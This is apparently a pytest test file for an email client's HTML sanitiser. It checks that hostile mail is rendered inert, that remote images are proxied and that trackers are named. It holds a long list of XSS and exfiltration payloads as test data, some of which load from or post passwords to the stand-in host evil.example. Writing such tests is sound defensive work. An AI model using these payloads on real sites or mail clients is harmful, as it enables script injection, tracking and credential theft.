"""HTML of strangers: what is left of it runs nothing, loads nothing, escapes from nothing."""

import base64
import json
import re

import pytest

from mayfly.core.message import Blocked
from mayfly.mail import images
from mayfly.mail.read import Document, ImagePath, read, show_html
from mayfly.mail.render import raster_type
from tests.mail import corpus

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
IMAGES = ImagePath(b"k" * 32, 2_000_000_000)

# All that a sanitised document may hold: anything else is a hole by definition.
TAG = re.compile(r"<(/?)([a-zA-Z][^\s/>]*+)((?:[^>\"]++|\"[^\"]*+\")*+)>")
ALLOWED = frozenset(
    [
        "html",
        "head",
        "meta",
        "style",
        "body",
        "a",
        "abbr",
        "acronym",
        "address",
        "area",
        "article",
        "aside",
        "b",
        "bdi",
        "bdo",
        "big",
        "blockquote",
        "br",
        "caption",
        "center",
        "cite",
        "code",
        "col",
        "colgroup",
        "dd",
        "del",
        "dfn",
        "dir",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "font",
        "footer",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "header",
        "hgroup",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "main",
        "map",
        "mark",
        "menu",
        "nav",
        "ol",
        "p",
        "pre",
        "q",
        "rp",
        "rt",
        "ruby",
        "s",
        "samp",
        "section",
        "small",
        "span",
        "strike",
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "time",
        "tr",
        "tt",
        "u",
        "ul",
        "var",
        "wbr",
    ]
)
REFERENCE = re.compile(
    r"(?:src|href|background|action|poster|srcset|data|formaction|xlink:href)\s*=\s*\"([^\"]*)\"", re.IGNORECASE
)


def shown(html: str, images: ImagePath | None = None) -> Document:
    """Show an HTML mail."""
    document = show_html(b"Content-Type: text/html; charset=utf-8\r\n\r\n" + html.encode(), images)
    assert document is not None
    return document


def assert_inert(document: str) -> None:
    """Fail where a document holds anything that could run, load or leave."""
    head, _, body = document.partition("</head>")
    for style in re.findall(r"<style>(.*?)</style>", head, re.DOTALL):
        assert "<" not in style
        assert "@import" not in style.lower()
        for url in re.findall(r"url\(\"?([^)\"]*)", style):
            assert url.startswith(("data:image/", "/img/"))
    for closing, name, attributes in TAG.findall(document):
        assert name.lower() in ALLOWED, name
        if closing:
            continue
        for attribute in re.findall(r"([^\s=\"]++)\s*=\s*\"", attributes):
            assert not attribute.lower().startswith("on"), attribute
            assert attribute.lower() not in ("srcset", "action", "formaction", "srcdoc", "ping", "poster"), attribute
        for url in REFERENCE.findall(attributes):
            assert url.startswith(("data:image/", "data:,", "http://", "https://", "mailto:", "tel:", "/img/")), url
            if name == "img":
                assert url.startswith(("data:", "/img/")), url
    assert "<script" not in body.lower()
    assert "javascript:" not in re.sub(r">[^<]*+<", "><", body).lower()


PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src=https://evil.example srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example><applet code=x>",
    "<form action=https://evil.example><input name=p type=password><button formaction=https://evil.example>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/><a href=x>x</a>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example>",
    "<style>@import 'https://evil.example/x.css'; p{background:url(https://evil.example/p)}</style><p>",
    "<style>@import url(//evil.example);</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)} p{font-family:x}</style><p>x",
    "<style>p{background:u\\72l(https://evil.example)}</style><p>x",
    "<style>p{background:url(https://evil.example</style><p>x",
    "<style>p{background:image-set('https://evil.example' 1x)} q{content:url(https://evil.example)}</style>",
    "<style>p{--x:url(https://evil.example);background:var(--x)}</style><p>x",
    "<style></style/><img src=x onerror=alert(1)></style>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<style>a::before{content:'</style><img src=x onerror=alert(1)>'}</style>",
    "<style>a::before{content:'<\\/style><script>alert(1)</script>'}</style>",
    "<p style=\"background:url('javascript:alert(1)')\">x",
    "<p style='width:expression(alert(1))'>x<p style='behavior:url(x.htc)'>y<p style='-moz-binding:url(x)'>z",
    "<p style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9'>x",
    "<p style='position:fix\\65 d'>x<p style='position:var(--p);--p:fixed'>y<p style='POSITION : FIXED !important'>z",
    "<p style='cursor:url(https://evil.example),auto;list-style-image:url(https://evil.example)'>x",
    "<p style='filter:url(https://evil.example#f);mask:url(https://evil.example);clip-path:url(https://evil.example)'>x",
    "<table background=https://evil.example><tr><td background=//evil.example/x>x</table><body background=https://evil.example>",
    "<img src=//evil.example/x><img src=\\\\evil.example\\x><img src='/\\evil.example'><img src='https:evil.example'>",
    "<img srcset='https://evil.example/1 1x, https://evil.example/2 2x'><picture><source srcset=https://evil.example></picture>",
    "<video poster=https://evil.example src=https://evil.example><source src=https://evil.example></video><audio src=https://evil.example>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src=cid:x><img src='cid:..%2f'><input type=image src=https://evil.example>",
    "<a href=https://evil.example ping=https://evil.example/ping target=_self onclick=alert(1)>x</a>",
    "<div id=x onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus contenteditable accesskey=x>x</div>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if !IE 5]><script>alert(1)</script><![endif]>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template><frameset onload=alert(1)><frame src=https://evil.example></frameset>",
    "<body onload=alert(1) style='background:url(https://evil.example)' class='a\"onload=alert(1)'>x",
    '<body style="a:b"onload="alert(1)" title=\'>\'><img src=x onerror=alert(1)>',
    "<html lang='\"><script>alert(1)</script>' dir='\"onload=alert(1)'>x",
    "<select><option><style></select><script>alert(1)</script></style></option></select>",
    "<textarea></textarea><script>alert(1)</script></textarea><title></title><script>alert(1)</script></title>",
    "<a href='https://e.example' style='background:url(&quot;https://evil.example&quot;)'>x</a>",
    "<img src='https://evil.example/a\"onerror=alert(1)'><img alt='\"onerror=alert(1) x=\"' src=x>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><use href=//evil.example/#x /></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><image href=https://evil.example /><feImage href=https://evil.example /></svg>",
    "<p style='background:url(data:image/svg+xml,<svg onload=alert(1)>)'>x",
    "<area href=javascript:alert(1)><map name=m><area href=https://e.example target=_self></map><img usemap=https://evil.example#m>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt><img\x00src=x\x00onerror=alert(1)>",
    "<<script>alert(1);//<</script><scr<script>ipt>alert(1)</script>",
    '<img src=`javascript:alert(1)`><img """><script>alert(1)</script>">',
    "<div style='color:red;/*' title='*/;position:fixed'>x</div><div style='/*;position:fixed;*/color:red'>y</div>",
    '<p style="color:red;} body{display:none} @media all{p{background:url(//evil.example)}">x',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert(payload: str) -> None:
    """Nothing that runs, loads or escapes is left, with images off and on, whole or in front of the rest."""
    for images_wanted in (None, IMAGES):
        document = shown(payload + "<p>rest", images_wanted)
        assert_inert(document.html)
        if images_wanted is None:
            assert "evil.example" not in re.sub(r'href="[^"]*"|alt="[^"]*"|title="[^"]*"|>[^<]*<', "", document.html)


@corpus.needs_corpus()
def test_payloads_of_others_are_inert() -> None:
    """The payload set of another sanitiser finds no hole."""
    for case in json.loads((corpus.ROOT / "xss-loofah-html5lib" / "payloads.json").read_text()):
        assert_inert(shown(case["payload"]).html)


@corpus.needs_corpus()
def test_html_of_the_corpus_is_inert() -> None:
    """No mail of the corpus shows anything that runs or loads."""
    for _, octets in corpus.mails(*corpus.ORDINARY, "otp-*"):
        document = show_html(octets, None)
        if document is not None:
            assert_inert(document.html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_and_names_are_only_text(payload: str) -> None:
    """In plain text beside HTML, in a forwarded subject, in alternative texts: the same payloads are letters."""
    content = (
        b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<p>hi\r\n--x\r\n\r\n"
        + payload.encode()
        + b"\r\n--x\r\nContent-Type: message/rfc822\r\n\r\nSubject: "
        + payload.replace("\n", " ").encode()
        + b"\r\n\r\nbody\r\n--x--"
    )
    document = show_html(content, None)
    assert document is not None
    assert_inert(document.html)


def test_remote_images_are_counted_once_each_and_trackers_named() -> None:
    """Each remote address counts once; the company behind a known host is named."""
    document = shown(
        "<img src=https://a.example/1><img src=https://a.example/1><table background=//b.example/2></table>"
        "<p style='background:url(https://c.example/3)'><style>p{background:url(https://d.example/4)}</style>"
        "<img width=1 height=1 src=https://u1.ct.sendgrid.net/open>"
    )
    assert document.blocked == Blocked(5, ("SendGrid",))
    assert "example/" not in document.html


def test_wanted_images_come_through_us_alone() -> None:
    """With images on, each remote reference is a signed path of ours; nothing else is in the document."""
    document = shown("<img src=//a.example/1><p style='background:red url(https://c.example/3) no-repeat'>x", IMAGES)
    paths = re.findall(r"/img/[A-Za-z0-9/_-]+", document.html)
    assert {images.verify(IMAGES.key, path, 0) for path in paths} == {"https://a.example/1", "https://c.example/3"}
    assert "example" not in document.html
    assert "background: red url(" in document.html


def related(html: str, media_type: str, octets: bytes) -> bytes:
    """Write an HTML mail with one inline part."""
    return (
        b"Content-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
        + html.encode()
        + f"\r\n--x\r\nContent-Type: {media_type}\r\nContent-ID: <logo@x>\r\n".encode()
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(octets)
        + b"\r\n--x--"
    )


def test_inline_images_are_in_the_document() -> None:
    """A raster image of the mail becomes a data: URL under its true type, in attributes and in style."""
    document = show_html(
        related("<img src=cid:logo@x><p style='background:url(cid:logo%40x)'>", "image/x-lie", PNG), None
    )
    assert document is not None
    assert document.html.count("data:image/png;base64," + base64.b64encode(PNG).decode()) == 2
    assert document.blocked == Blocked()


@pytest.mark.parametrize("octets", [b"<svg onload=alert(1)>", b"<script>", b"", b"%PDF-", PNG + b"\0" * 5 * 1_048_576])
def test_what_is_no_raster_image_or_too_large_is_not_inlined(octets: bytes) -> None:
    """The first octets decide, not the label; five megabytes are the limit."""
    document = show_html(related("<img src=cid:logo@x>", "image/png", octets), None)
    assert document is not None
    assert "data:image" not in document.html


def test_raster_types() -> None:
    """Types are told by magic octets."""
    assert raster_type(b"RIFF\0\0\0\0WEBPVP8 ") == "image/webp"
    assert raster_type(b"GIF89a") == "image/gif"
    assert raster_type(b"\xff\xd8\xff\xe0") == "image/jpeg"
    assert raster_type(b"\0\0\0\x1cftypavif\0\0\0\0") == "image/avif"
    assert raster_type(b"RIFF\0\0\0\0WAVE") is None
    assert raster_type(b"\0\0\0\x1cftypheic\0\0\0\0") is None


DARK = [
    ("<meta name=color-scheme content='light dark'><p>", True),
    ("<meta name=supported-color-schemes content='light dark'><p>", True),
    ("<style>@media (prefers-color-scheme: dark){p{color:#fff}}</style><p>", True),
    ("<style>:root{color-scheme:light dark}</style><p>", True),
    ("<meta name=color-scheme content=light><p>", False),
    ("<p style='color:#000'>dark</p>", False),
]


@pytest.mark.parametrize(("html", "dark"), DARK)
def test_dark_support_is_seen(html: str, dark: bool) -> None:
    """A mail that is prepared for dark screens is said to be; all others are paper."""
    document = shown(html)
    assert ('content="light dark"' in document.html) is dark


def test_a_block_behind_a_number_is_no_function() -> None:
    """``2url`` is a number with a unit; what is written of it has no ``url(``, and sums in brackets stay sums."""
    html = shown("<p style='width:x:2url(//evil.example/x);height:calc(2px*(3 + 4))'>x").html
    assert "url(" not in html.partition("</head>")[2]
    assert "calc(2px* (3 + 4))" in html


SHEETS = [
    ("print", "@media print { p { color: red } }"),
    (" screen and (max-width:480px) ", "@media screen and (max-width:480px) { p { color: red } }"),
    ("(width >= 600px)", "@media (width >= 600px) { p { color: red } }"),
    ("", "<style>p { color: red }"),
    # What is no list of media is for none of them.
    ("x}q{color:red", ""),
    ("x;y", ""),
    ("x{", ""),
    ("url(//evil.example)", ""),
]


@pytest.mark.parametrize(("media", "kept"), SHEETS)
def test_a_sheet_is_for_the_media_that_its_element_names(media: str, kept: str) -> None:
    """What is for print or for small screens is not for all."""
    html = shown(f"<style media='{media}'>p{{color:red}}</style><p>x").html
    assert kept in html
    assert html.count("color: red") == bool(kept)


def test_a_sheet_for_dark_screens_is_seen() -> None:
    """It says that the mail is prepared for them, as a rule within a sheet does."""
    assert 'content="light dark"' in shown("<style media='(prefers-color-scheme: dark)'>p{color:#fff}</style><p>x").html


def test_a_backslash_by_itself_escapes_nothing() -> None:
    """It would join what is written behind it: what stands after each value is where it stood."""
    html = shown("<style>p{--x:\\\n;color:red}</style><p style='--y:\\\n;color:blue'>x").html
    assert "p { color: red }" in html
    assert 'style="color: blue"' in html


def test_a_string_of_a_style_sheet_is_no_function() -> None:
    """What a string says stays what it says, and is written without an opening bracket."""
    html = shown("<style>p::before{content:'a url(//evil.example/x) b'}</style><p>x").html
    assert "url(" not in html
    assert 'content: "a url\\28 //evil.example/x) b"' in html


def test_links_leave_without_a_trace() -> None:
    """Links open elsewhere, without referrer and opener; only web, mail and telephone."""
    html = shown("<a href=' https://a.example/x' target=_top rel=opener>x</a><a href=ftp://b.example>y</a>").html
    assert 'href="https://a.example/x"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert "_top" not in html
    assert "ftp:" not in html


def test_body_keeps_its_looks() -> None:
    """What stands on <body> and <html> is kept: colour, direction, class."""
    html = shown('<html lang=ar dir=rtl><body bgcolor="#eee" class=k style="margin:0;position:fixed">x').html
    assert '<html dir="rtl" lang="ar">' in html
    assert '<body bgcolor="#eee" class="k" style="margin: 0"' in html


def test_too_complex_html_is_shown_as_text() -> None:
    """No document, the text all the same, and a problem that says so."""
    content = b"Content-Type: text/html\r\n\r\n" + b"<div>" * 2000 + b"still <b>readable</b>"
    assert show_html(content, None) is None
    reading = read(content)
    assert (reading.has_html, reading.text, reading.problems) == (False, "still readable", ("html-too-complex",))


def test_a_picture_is_paid_for_each_time_it_is_shown() -> None:
    """The budget of inline images is for what is written: the further uses of a picture are left out."""
    picture = PNG + bytes(1_000_000)
    document = show_html(related("<img src=cid:logo@x>" * 20, "image/png", picture), None)
    assert document is not None
    assert document.html.count("data:image/png") == 5
    assert document.html.count('<img src="data:,">') == 15
